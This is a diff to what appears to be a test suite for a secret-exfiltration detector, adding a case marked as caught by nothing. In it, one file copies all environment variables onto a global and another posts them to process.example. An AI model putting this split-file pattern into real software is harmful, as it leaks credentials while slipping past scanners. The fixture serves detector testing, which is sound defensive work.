@@ -103,5 +103,16 @@ fetch("https://process.example/", { method: "POST", body: JSON.stringify(keys) }
 `,
       },
     },
+    {
+      name: "one script leaves the variables on a global, and another, which imports nothing, sends them",
+      caughtBy: "nothing",
+      files: {
+        "package.json": manifest,
+        "server.js": `globalThis.kept = { ...process.env };
+`,
+        "report.js": `fetch("https://process.example/", { method: "POST", body: JSON.stringify(globalThis.kept) });
+`,
+      },
+    },
   ],
 };
